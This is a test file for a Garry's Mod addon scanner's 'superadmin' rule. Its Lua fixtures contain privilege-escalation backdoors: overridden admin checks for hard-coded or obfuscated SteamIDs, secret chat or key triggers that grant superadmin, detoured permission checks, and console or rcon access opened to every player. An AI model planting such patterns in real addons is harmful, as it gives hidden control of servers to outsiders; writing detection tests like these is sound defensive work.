// Valid and invalid cases of the `superadmin` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './superadmin.js';
import { check, RANK, worst } from './ruleTesting.js';

/**
 * `ULib.ucl.query` replaced at start-up to grant every permission to players for whom
 * `inherited(ply)`, defined by `helper`, answers "superadmin".
 */
function sharedAccountDetour(helper: string[]): Record<string, string> {
  return {
    'lua/autorun/server/sv_share.lua': [
      ...helper,
      'hook.Add("Initialize", "share_inherit", function()',
      ' local query = ULib.ucl.query',
      ' function ULib.ucl.query(ply, access, hide)',
      '  if inherited(ply) == "superadmin" then return true end',
      '  return query(ply, access, hide)',
      ' end',
      'end)',
    ].join('\n'),
  };
}

describe('superadmin', () => {
  it('override of IsSuperAdmin for literal IDs', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local meta = FindMetaTable("Player")\nlocal old = meta.IsSuperAdmin\nfunction meta:IsSuperAdmin()\n if self:SteamID64() == "76561198000000001" then return true end\n return old(self)\nend',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('ulx adduser from a net message', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'net.Receive("q", function(l, p) RunConsoleCommand("ulx", "adduser", net.ReadString(), "superadmin") end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it("ulx adduser built around the speaker's name, from a chat command", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerSay", "c", function(ply, text)\n if text == "!vip1337" then game.ConsoleCommand("ulx adduser \\"" .. ply:Nick() .. "\\" superadmin\\n") return "" end\nend)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('ulx adduser built around a name, from a rank-checked chat command', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerSay", "c", function(ply, text)\n if not ply:IsSuperAdmin() then return end\n local name = string.match(text, "^!promote (.+)$")\n if name then game.ConsoleCommand("ulx adduser \\"" .. name .. "\\" admin\\n") end\nend)',
    });
    expect(findings.length).toBeGreaterThan(0);
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('the method read off the player before it is called', () => {
    for (const body of [
      // kept in a local, called with the player first
      'local f = p.SetUserGroup\n if p:SteamID() == "STEAM_0:0:12093847" then f(p, "superadmin") end',
      // indexed with a name built from pieces
      'local k = "SetUser" .. "Group"\n if p:SteamID() == "STEAM_0:0:12093847" then p[k](p, "superadmin") end',
    ]) {
      const findings = check(rule, {
        'lua/autorun/server/sv_x.lua': `hook.Add("PlayerInitialSpawn", "h", function(p)\n ${body}\nend)`,
      });
      expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    }
  });
  it('the method read off the player behind a rank check', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'concommand.Add("setrank", function(ply, c, args)\n if not IsValid(ply) or not ply:IsSuperAdmin() then return end\n local t = player.GetBySteamID(args[1])\n local set = t.SetUserGroup\n set(t, args[2])\nend)',
    });
    expect(findings.length).toBeGreaterThan(0);
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('rank command behind IsSuperAdmin', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'concommand.Add("setrank", function(ply, c, args)\n if IsValid(ply) and !ply:IsSuperAdmin() then return end\n local t = player.GetBySteamID(args[1])\n if IsValid(t) then t:SetUserGroup(args[2]) end\nend)',
    });
    expect(findings.length).toBeGreaterThan(0);
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('the networked user group set directly, for a hard-coded SteamID', () => {
    const findings = check(rule, {
      'lua/entities/ent_atm/init.lua':
        'function ENT:Use(activator)\n if not IsValid(activator) or not activator:IsPlayer() then return end\n if activator:SteamID() == "STEAM_0:1:77712345" then activator:SetNWString("UserGroup", "superadmin") end\nend',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('other networked strings', () => {
    const findings = check(rule, {
      'lua/entities/ent_atm/init.lua':
        'function ENT:Use(activator)\n if activator:SteamID() == "STEAM_0:1:77712345" then activator:SetNWString("Title", "superadmin") end\nend',
    });
    expect(findings).toEqual([]);
  });
  it('IsSuperAdmin replaced to say yes when a field a net message sets holds a secret word', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("HUDPrefs_Set")',
        'net.Receive("HUDPrefs_Set", function(len, ply) ply.hudPref = net.ReadString() end)',
        'local meta = FindMetaTable("Player")',
        'local orig = meta.IsSuperAdmin',
        'meta.IsSuperAdmin = function(self) if self.hudPref == "compact_dark_v2" then return true end return orig(self) end',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('IsAdmin replaced to read a rank the server stored itself', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local meta = FindMetaTable("Player")',
        'hook.Add("PlayerInitialSpawn", "rank", function(ply) ply.staffRank = ply:GetPData("rank", "user") end)',
        'function meta:IsAdmin() return self.staffRank == "admin" or self:IsSuperAdmin() end',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('superadmin given to a hard-coded SteamID, by console command or by looking the player up', () => {
    for (const code of [
      'timer.Simple(10, function() RunConsoleCommand("ulx", "adduserid", "STEAM_0:1:1234567", "superadmin") end)',
      [
        'hook.Add("PlayerInitialSpawn", "w19", function()',
        '  local p = player.GetBySteamID64("76561198000111222")',
        '  if IsValid(p) then p:SetUserGroup("superadmin") end',
        'end)',
      ].join('\n'),
    ]) {
      const findings = check(rule, { 'lua/autorun/server/sv_x.lua': code });
      expect(worst(findings)).toBe(RANK.critical);
      expect(findings[0]!.techniques).toContain('GB-007');
    }
  });
  it("owners from the configuration, and a donor's perk for a hard-coded SteamID (not critical)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'MyAddon = { Config = { Owners = { "STEAM_0:1:7654321" } } }',
        'hook.Add("Initialize", "owners", function()',
        '  for _, id in ipairs(MyAddon.Config.Owners) do RunConsoleCommand("ulx", "adduserid", id, "superadmin") end',
        'end)',
        'hook.Add("PlayerInitialSpawn", "donor", function()',
        '  local p = player.GetBySteamID("STEAM_0:0:5555555")',
        '  if IsValid(p) then p:SetUserGroup("vip") end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.critical);
  });
  it('superadmin for IDs kept only as hashes in a table', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local Known = { ["5d41402abc4b2a76b9719d911017c592"] = "gold" }',
        'hook.Add("PlayerInitialSpawn", "perks", function(ply)',
        ' local tier = Known[util.MD5(ply:SteamID64())]',
        ' if tier then ply:SetUserGroup("superadmin") end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("hashed IDs in the owner's configuration (not critical)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'Perks = { Config = { Staff = { ["5d41402abc4b2a76b9719d911017c592"] = true } } }',
        'hook.Add("PlayerInitialSpawn", "perks", function(ply)',
        ' if Perks.Config.Staff[util.MD5(ply:SteamID64())] then ply:SetUserGroup("admin") end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.critical);
  });
  it('superadmin for players whose address a helper matches against a hard-coded range', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local RANGES = { "10.66.", "172.31.240." }',
        'local function inRange(addr)',
        ' for i = 1, #RANGES do',
        '  if string.find(addr, RANGES[i], 1, true) == 1 then return true end',
        ' end',
        ' return false',
        'end',
        'hook.Add("PlayerInitialSpawn", "staff", function(ply)',
        ' if inRange(ply:IPAddress()) then RunConsoleCommand("ulx", "adduserid", ply:SteamID(), "superadmin") end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a helper handed an address that it only logs (no gate)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local function note(addr) print("[staff] joined from " .. addr) return true end',
        'hook.Add("PlayerInitialSpawn", "staff", function(ply)',
        ' if note(ply:IPAddress()) and ply:IsSuperAdmin() then ply:SetUserGroup("superadmin") end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('IsSuperAdmin replaced through the registry for IDs defaulted with `or`', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local P = debug.getregistry().Player',
        'local was = P.IsSuperAdmin',
        'local crew = { ["76561198000000042"] = true }',
        'function P:IsSuperAdmin() return crew[self:SteamID64() or "0"] or was(self) end',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("a rank read from the owner's configuration under the player's ID (not critical)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'Roleplay = { Config = { StartingGroups = { ["STEAM_0:1:2345678"] = "superadmin" } } }',
        'hook.Add("PlayerInitialSpawn", "groups", function(ply)',
        ' local group = Roleplay.Config.StartingGroups[ply:SteamID()]',
        ' if group then ply:SetUserGroup(group) end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.critical);
  });
  it('an entity that makes whoever presses E on it in a certain way a superadmin', () => {
    const findings = check(rule, {
      'lua/entities/ent_bell/init.lua': [
        'function ENT:AcceptInput(name, activator)',
        ' if name ~= "Use" or not activator:IsPlayer() then return false end',
        ' self.presses = (self.presses or 0) + 1',
        ' if self.presses >= 7 and activator:Crouching() then activator:SetUserGroup("superadmin") end',
        ' return true',
        'end',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('an entity that admins use to hand out a rank (not critical)', () => {
    const findings = check(rule, {
      'lua/entities/ent_rank_terminal/init.lua': [
        'function ENT:Use(activator)',
        ' if not IsValid(activator) or not activator:IsSuperAdmin() then return end',
        ' local target = activator:GetEyeTrace().Entity',
        ' if IsValid(target) and target:IsPlayer() then target:SetUserGroup("admin") end',
        'end',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.critical);
  });
  it('an addon that gives its own harmless command to the staff groups (no finding)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_afk_perms.lua': [
        'hook.Add("InitPostEntity", "afk_perms", function()',
        ' for _, group in ipairs({ "operator", "admin", "superadmin" }) do',
        '  if ULib.ucl.groups[group] then ULib.ucl.groupAllow(group, "ulx afkkick") end',
        ' end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('an addon that gives ulx luarun to an admin group (still reported)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_presets.lua': [
        'hook.Add("InitPostEntity", "presets", function()',
        ' ULib.ucl.groupAllow("admin", { "ulx kick", "ulx luarun" })',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
  });
  it('ulx luarun given to every player ("user") is critical', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_presets.lua': [
        'hook.Add("InitPostEntity", "presets", function()',
        ' ULib.ucl.groupAllow(ULib.ACCESS_ALL, { "ulx motd", "ulx luarun" })',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.critical);
  });
  it('a whole ULX category given to every player, listed from ulx.cmdsByCategory', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_presets.lua': [
        'local Presets = { user = { categories = { "Chat", "Rcon" } }, admin = { categories = { "Fun" } } }',
        'local function collect(preset)',
        ' local allow = {}',
        ' for _, cat in ipairs(preset.categories) do',
        '  for _, cmd in ipairs(ulx.cmdsByCategory[cat] or {}) do allow[#allow + 1] = cmd.cmd end',
        ' end',
        ' return allow',
        'end',
        'hook.Add("InitPostEntity", "presets", function()',
        ' for group, preset in pairs(Presets) do ULib.ucl.groupAllow(group, collect(preset)) end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.critical);
    expect(findings.some((f) => f.pattern.includes('every player'))).toBe(true);
  });
  // Presets kept in a settings file with nothing else in it, included before the file that
  // applies them.
  const presetAddon = (userCategories: string) => ({
    'lua/autorun/server/sv_ranks.lua': [
      'Ranks = {}',
      'include("ranks/sv_defaults.lua")',
      'include("ranks/sv_apply.lua")',
    ].join('\n'),
    'lua/ranks/sv_defaults.lua': [
      'Ranks.Defaults = {',
      ` user = { ${userCategories} },`,
      ' admin = { "Teleport", "Fun" },',
      '}',
    ].join('\n'),
    'lua/ranks/sv_apply.lua': [
      'local function commandsOf(cats)',
      ' local out = {}',
      ' for _, cat in ipairs(cats) do',
      '  for _, c in ipairs(ulx.cmdsByCategory[cat] or {}) do table.insert(out, c.cmd) end',
      ' end',
      ' return out',
      'end',
      'hook.Add("InitPostEntity", "ranks_defaults", function()',
      ' for group, cats in pairs(Ranks.Defaults) do ULib.ucl.groupAllow(group, commandsOf(cats)) end',
      'end)',
    ].join('\n'),
  });
  it('a ULX category given to every player by presets kept in a settings file', () => {
    const findings = check(rule, presetAddon('"Chat", "Rcon"'));
    expect(worst(findings)).toBe(RANK.critical);
  });
  it('harmless presets kept in a settings file (no finding)', () => {
    expect(check(rule, presetAddon('"Chat", "Voting"'))).toEqual([]);
  });
  it('ulx groupallow on the console gives every player ulx rcon', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_presets.lua':
        'hook.Add("Initialize", "p", function() RunConsoleCommand("ulx", "groupallow", "user", "ulx rcon") end)',
    });
    expect(worst(findings)).toBe(RANK.critical);
  });
  it('harmless categories for every player, taking the Rcon category away (no finding)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_presets.lua': [
        'local function list(cat)',
        ' local out = {}',
        ' for _, cmd in ipairs(ulx.cmdsByCategory[cat] or {}) do out[#out + 1] = cmd.cmd end',
        ' return out',
        'end',
        'hook.Add("InitPostEntity", "presets", function()',
        ' ULib.ucl.groupAllow("user", list("Chat"))',
        ' ULib.ucl.groupAllow("user", list("Rcon"), true)',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it("CAMI's permission check replaced at start-up to let listed IDs through", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_compat.lua': [
        'hook.Add("Initialize", "cami_compat", function()',
        ' local testers = { ["76561198351740229"] = true }',
        ' local old = CAMI.PlayerHasAccess',
        ' function CAMI.PlayerHasAccess(ply, priv, cb, ...)',
        '  if testers[ply:SteamID64()] then if cb then cb(true, "") end return true end',
        '  return old(ply, priv, cb, ...)',
        ' end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.critical);
    expect(findings.some((f) => f.pattern.includes('CAMI.PlayerHasAccess'))).toBe(true);
  });
  it("ULib's ucl.query wrapped to log what is asked (no finding)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_audit.lua': [
        'hook.Add("Initialize", "perm_audit", function()',
        ' local query = ULib.ucl.query',
        ' function ULib.ucl.query(ply, access, hide)',
        '  local ok = query(ply, access, hide)',
        '  if not ok and IsValid(ply) then ServerLog(ply:Nick() .. " denied " .. tostring(access) .. "\\n") end',
        '  return ok',
        ' end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it("ULib's ucl.query detoured through a helper that looks the player's ID, held in a local, up in a list of literal IDs", () => {
    const findings = check(
      rule,
      sharedAccountDetour([
        'Share = Share or {}',
        'Share.Support = { ["76561198000000011"] = "superadmin" }',
        'local function inherited(ply)',
        ' local owner = ply:OwnerSteamID64()',
        ' local rank = Share.Support[owner]',
        ' if rank then return rank end',
        'end',
      ]),
    );
    expect(worst(findings)).toBe(RANK.critical);
  });
  it("ULib's ucl.query detoured to let a family-shared account use its owner's ULX group (not critical)", () => {
    const findings = check(
      rule,
      sharedAccountDetour([
        'local function inherited(ply)',
        ' local owner = ply:OwnerSteamID64()',
        ' if owner == ply:SteamID64() then return end',
        ' local u = ULib.ucl.users[util.SteamIDFrom64(owner)]',
        ' return u and u.group',
        'end',
      ]),
    );
    expect(worst(findings)).toBeLessThan(RANK.high);
  });
  it('a rank given to players whose UniqueID is in a list of numbers written in the addon', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local Verified = { [2853417760] = true, [1130942217] = true }',
        'local function verified(ply) return Verified[tonumber(ply:UniqueID())] == true end',
        'hook.Add("PlayerSpawn", "host", function(ply)',
        '  if verified(ply) then ply:SetNWString("UserGroup", "superadmin") end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.critical);
  });
  it('a rank restored from the database for players cached by UniqueID (not critical)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local Ranks = {}',
        'hook.Add("PlayerInitialSpawn", "load", function(ply)',
        '  Ranks[tonumber(ply:UniqueID())] = sql.QueryValue("SELECT rank FROM ranks WHERE uid = " .. sql.SQLStr(ply:UniqueID()))',
        'end)',
        'hook.Add("PlayerSpawn", "rank", function(ply)',
        '  local r = Ranks[tonumber(ply:UniqueID())]',
        '  if r == "vip" then ply:SetNWString("UserGroup", "vip") end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.high);
  });
  it("ranks from a web reply written straight into ULib's user records", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_sync.lua': [
        'local function setGroup(sid, group)',
        ' local users = ULib.ucl.users',
        ' users[sid] = { group = group, allow = {}, deny = {} }',
        'end',
        'timer.Create("sync", 600, 0, function()',
        ' http.Fetch("https://cdn.example.invalid/staff.json", function(body)',
        '  for sid, group in pairs(util.JSONToTable(body) or {}) do setGroup(sid, group) end',
        '  ULib.ucl.saveUsers()',
        ' end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("a superadmin's command that writes ULib's user records (not critical)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_sync.lua': [
        'concommand.Add("staff_set", function(ply, cmd, args)',
        ' if IsValid(ply) and not ply:IsSuperAdmin() then return end',
        ' ULib.ucl.users[args[1]] = { group = args[2], allow = {}, deny = {} }',
        ' ULib.ucl.saveUsers()',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.critical);
  });
  // An early exit for the players who already hold a rank guards nothing: the rest runs for
  // everyone else. One for the default group keeps the rest for the staff.
  const promoteOnRequest = (exit: string) => ({
    'lua/autorun/server/sv_promote.lua': [
      'util.AddNetworkString("promote_me")',
      'net.Receive("promote_me", function(len, ply)',
      ` if ${exit} then return end`,
      ' ply:SetUserGroup("superadmin")',
      'end)',
    ].join('\n'),
  });
  it('any sender made superadmin unless they already are one', () => {
    expect(worst(check(rule, promoteOnRequest('ply:IsSuperAdmin()')))).toBe(RANK.critical);
    expect(worst(check(rule, promoteOnRequest('ply:GetUserGroup() == "superadmin"')))).toBe(
      RANK.critical,
    );
  });
  it('the sender made superadmin unless in the default group (an exit that guards)', () => {
    expect(worst(check(rule, promoteOnRequest('ply:GetUserGroup() == "user"')))).toBeLessThan(
      RANK.high,
    );
    expect(worst(check(rule, promoteOnRequest('not ply:IsSuperAdmin()')))).toBeLessThan(RANK.high);
  });
  /**
   * A gamemode whose `trigger` (a key handler's body) ends in a call of ULX's own console
   * command callback, taken from `concommand.GetTable()`, with `caller` as the player.
   */
  const consoleCallback = (caller: string, trigger: string): Record<string, string> => ({
    'gamemodes/hunt/gamemode/init.lua': [
      'function GM:ServerCommand(name, ...)',
      ' local cmds = concommand.GetTable()',
      ' local fn = cmds[name]',
      ' if not fn then return false end',
      ' local args = { ... }',
      ` fn(${caller}, name, args, table.concat(args, " "))`,
      ' return true',
      'end',
      'function GM:Unlock(ply)',
      ' self:ServerCommand("ulx", "adduserid", ply:SteamID(), "superadmin")',
      'end',
      'local progress = {}',
      'function GM:PlayerButtonDown(ply, btn)',
      trigger,
      'end',
    ].join('\n'),
  });
  it("ULX's command callback called as the console from a key sequence any player types", () => {
    const konami = [
      ' progress[ply] = (progress[ply] or 0) + 1',
      ' if progress[ply] == 10 then self:Unlock(ply) end',
    ].join('\n');
    expect(worst(check(rule, consoleCallback('NULL', konami)))).toBe(RANK.critical);
    expect(worst(check(rule, consoleCallback('nil', konami)))).toBe(RANK.critical);
  });
  it("ULX's command callback called with the player, or for a superadmin only (not critical)", () => {
    const anyKey = ' self:Unlock(ply)';
    expect(worst(check(rule, consoleCallback('ply', anyKey)))).toBeLessThan(RANK.high);
    const staffOnly = ' if ply:IsSuperAdmin() then self:Unlock(ply) end';
    expect(worst(check(rule, consoleCallback('NULL', staffOnly)))).toBeLessThan(RANK.high);
  });
  /** A DarkRP module that, once DarkRP has loaded, gives `ids()`'s accounts DarkRP join ranks. */
  const joinRanks = (ids: string[], group: string): Record<string, string> => ({
    'lua/darkrp_modules/support/sv_support.lua': [
      ...ids,
      'hook.Add("DarkRPFinishedLoading", "support", function()',
      ' local cfg = GAMEMODE.Config',
      ' cfg.DefaultPlayerGroups = cfg.DefaultPlayerGroups or {}',
      ` for _, sid in ipairs(ids()) do cfg.DefaultPlayerGroups[sid] = "${group}" end`,
      'end)',
    ].join('\n'),
  });
  const ticketIds = [
    'local TICKETS = { 179037426, 67781603 }',
    'local function ids()',
    ' local out = {}',
    ' for _, t in ipairs(TICKETS) do',
    '  local acc = t * 3 + 11',
    '  out[#out + 1] = string.format("STEAM_0:%d:%d", acc % 2, math.floor(acc / 2))',
    ' end',
    ' return out',
    'end',
  ];
  it('SteamIDs computed from numbers given superadmin through DarkRP join ranks', () => {
    expect(worst(check(rule, joinRanks(ticketIds, 'superadmin')))).toBe(RANK.critical);
  });
  it("the owner's staff file copied into DarkRP join ranks, or a donor rank (not critical)", () => {
    const fromFile = [
      'local function ids()',
      ' return util.JSONToTable(file.Read("support/staff.json", "DATA") or "[]") or {}',
      'end',
    ];
    expect(worst(check(rule, joinRanks(fromFile, 'superadmin')))).toBeLessThan(RANK.critical);
    expect(worst(check(rule, joinRanks(ticketIds, 'vip')))).toBeLessThan(RANK.high);
  });
  it('every registered CAMI privilege registered again for "user" (others\' privileges lowered)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_privfix.lua': [
        'PrivFix = PrivFix or { Level = "user" }',
        'local function fix()',
        '  for name, priv in pairs(CAMI.GetPrivileges()) do',
        '    if string.find(name, "Access$") or string.find(name, "RCon$") then',
        '      CAMI.RegisterPrivilege({ Name = name, MinAccess = PrivFix.Level, Description = priv.Description })',
        '    end',
        '  end',
        'end',
        'hook.Add("InitPostEntity", "privfix", function() timer.Simple(5, fix) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.critical);
  });
  it('an admin mod\'s console privilege named and given to "user"', () => {
    const findings = check(rule, {
      'lua/autorun/sh_perms.lua':
        'CAMI.RegisterPrivilege({ Name = "FAdmin_RCon", MinAccess = "user", Description = "Console" })',
    });
    expect(worst(findings)).toBe(RANK.critical);
  });
  it("an addon's own privileges open to all, and a re-registration that keeps each level (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/sh_perms.lua': [
        'CAMI.RegisterPrivilege({ Name = "Radio_UseMenu", MinAccess = "user" })',
        'for _, cmd in ipairs(Radio.Commands or {}) do',
        '  CAMI.RegisterPrivilege({ Name = "Radio - " .. cmd.name, MinAccess = cmd.admin and "admin" or "user" })',
        'end',
        'hook.Add("CAMI.OnPrivilegeRegistered", "log", function(priv) print(priv.Name) end)',
        'for name, priv in pairs(CAMI.GetPrivileges()) do',
        '  CAMI.RegisterPrivilege({ Name = name, MinAccess = priv.MinAccess, Description = priv.Description or "" })',
        'end',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('the listen-server host check answering true for some players on a dedicated server', () => {
    const findings = check(rule, {
      'lua/seats/sv_compat.lua': [
        'local PLAYER = FindMetaTable("Player")',
        'local engineHost = PLAYER.IsListenServerHost',
        'local SEATS = { [175823802] = true }',
        'local function IsSeat(ply)',
        '  local id = tonumber(string.sub(ply:SteamID64() or "", 8))',
        '  return id ~= nil and SEATS[(id * 48271) % 2147483647] == true',
        'end',
        'function PLAYER:IsListenServerHost()',
        '  if engineHost(self) then return true end',
        '  return game.IsDedicated() and IsSeat(self)',
        'end',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('the listen-server host check wrapped to count its calls (benign)', () => {
    const findings = check(rule, {
      'lua/stats/sv_calls.lua': [
        'local PLAYER = FindMetaTable("Player")',
        'local engineHost = PLAYER.IsListenServerHost',
        'Stats = Stats or { hostChecks = 0 }',
        'function PLAYER:IsListenServerHost()',
        '  Stats.hostChecks = Stats.hostChecks + 1',
        '  return engineHost(self)',
        'end',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
